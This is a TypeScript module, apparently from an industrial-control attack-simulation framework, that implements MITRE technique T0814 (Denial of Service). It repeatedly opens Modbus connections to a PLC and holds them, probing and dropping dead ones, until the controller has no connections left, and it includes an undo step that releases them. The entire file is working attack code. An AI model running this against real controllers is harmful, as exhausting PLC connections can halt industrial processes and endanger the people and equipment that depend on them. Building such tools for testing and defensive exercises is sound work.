// T0814 Denial of Service: a foreign client takes one connection after the other and keeps them, until the PLC has none left.
import { z } from 'zod'
import { LinkFault, type ModbusLink } from '../plc/modbus-link.ts'
import type { Attack } from './attack.ts'
import { EverySeconds } from './burst.ts'
import { answered } from './kept-link.ts'

const READ_ONE_BIT = Uint8Array.of(1, 0, 0, 0, 1)

const Parameters = z.strictObject({
  connections: z.int().min(1).max(200).default(32).describe('How many connections it tries to keep.'),
  perStrike: z.int().min(1).max(50).default(8).describe('How many it opens at each strike.'),
  everySeconds: EverySeconds
})

export const connectionExhaustion = {
  name: 'connection-exhaustion',
  title: { zh: '连接耗尽', en: 'Exhausted connections' },
  technique: 'T0814',
  parameters: Parameters,
  async aim(foothold, { connections, perStrike, everySeconds }) {
    const first = await foothold.link()
    const held = new Set<ModbusLink>([first])
    // A connection that says nothing may have been cut long ago.
    const dropDead = async () => {
      for (const link of held) {
        if (await answered(() => link.request(READ_ONE_BIT))) continue
        held.delete(link)
        await link[Symbol.asyncDispose]()
      }
    }
    const take = async () => {
      try {
        held.add(await foothold.link())
      } catch (fault) {
        // None is left: that is what it wants.
        if (!(fault instanceof LinkFault)) throw fault
      }
    }
    return {
      ...{ tags: [], hosts: [first.host], insistSeconds: everySeconds },
      async strike() {
        await dropDead()
        for (let opened = 0; opened < perStrike && held.size < connections; opened++) await take()
      },
      async undo() {
        for (const link of held) await link[Symbol.asyncDispose]()
        held.clear()
      }
    }
  }
} satisfies Attack<typeof Parameters>
